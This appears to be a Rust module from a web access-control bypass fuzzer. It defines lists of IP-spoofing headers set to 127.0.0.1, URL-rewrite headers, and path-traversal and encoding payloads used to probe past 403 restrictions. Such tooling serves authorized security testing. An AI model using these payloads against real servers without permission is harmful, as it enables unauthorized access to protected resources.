//! Static payload data driving target generation.
//!
//! List order is significant: generation walks every list front to back, so
//! reordering an entry changes the order (not the content) of emitted targets.

/// Marker inserted into a path segment and later replaced by a path payload.
pub const PLACEHOLDER: &str = "FUZZ";

/// Value sent with every trusted-IP header spoof.
pub const SPOOF_VALUE: &str = "127.0.0.1";

const SPOOF_HEADERS: &[&str] = &[
    "X-Custom-IP-Authorization",
    "X-Forwarded-For",
    "X-ProxyUser-Ip",
    "X-Forwarded-Host",
    "X-Originating-IP",
    "X-Forwarded-port",
    "X-Forwarded-by",
    "X-Forwarded-Scheme",
    "X-Frame-Options",
    "X-Client-IP",
    "X-Remote-IP",
    "X-Remote-Addr",
    "Client-IP",
    "X-Host",
];

const REWRITE_HEADERS: &[&str] = &["X-Original-URL", "X-rewrite-url"];

// Duplicates are intentional, each entry is one probe.
const PATH_PAYLOADS: &[&str] = &[
    "؟",
    "؟؟",
    "&",
    "#",
    "%",
    "%20",
    "%09",
    "/",
    "/..;/",
    "../",
    "/",
    "/*",
    "/%2f/",
    "/./",
    "./.",
    "/*/",
    "?",
    "??",
    "&",
    "#",
    "%",
    "%20",
    "%09",
    "/..;/",
    "../",
    "..%2f",
    "..;/",
    ".././",
    "..%00/",
    "..%0d",
    "..%5c",
    "..%ff/",
    "%2e%2e%2f",
    ".%2e/",
    "%3f",
    "%26",
    "%23",
    ".json",
];

/// Immutable payload lists, built once per run and shared by reference.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadCatalog {
    pub spoof_headers: Vec<String>,
    pub rewrite_headers: Vec<String>,
    pub path_payloads: Vec<String>,
    pub placeholder: String,
}

impl PayloadCatalog {
    pub fn new(
        spoof_headers: Vec<String>,
        rewrite_headers: Vec<String>,
        path_payloads: Vec<String>,
        placeholder: impl Into<String>,
    ) -> Self {
        Self {
            spoof_headers,
            rewrite_headers,
            path_payloads,
            placeholder: placeholder.into(),
        }
    }
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        let owned = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        Self::new(
            owned(SPOOF_HEADERS),
            owned(REWRITE_HEADERS),
            owned(PATH_PAYLOADS),
            PLACEHOLDER,
        )
    }
}
